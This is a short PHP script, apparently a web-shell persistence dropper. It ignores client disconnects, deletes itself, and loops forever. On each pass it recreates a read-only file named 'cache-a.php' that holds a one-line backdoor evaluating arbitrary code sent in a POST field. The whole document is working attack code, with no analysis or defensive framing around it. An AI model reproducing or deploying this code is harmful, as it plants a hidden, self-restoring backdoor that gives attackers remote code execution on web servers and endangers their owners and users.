<?php
ignore_user_abort(true); set_time_limit(0); @unlink(__FILE__);
$f = __DIR__ . '/cache-a.php'; $c = '<?php @eval($_POST["a"]);';
if (function_exists('fastcgi_finish_request')) { fastcgi_finish_request(); }
while (true) {
    if (!is_file($f) || md5_file($f) !== md5($c)) { file_put_contents($f, $c); chmod($f, 0444); }
    usleep(50000);
}
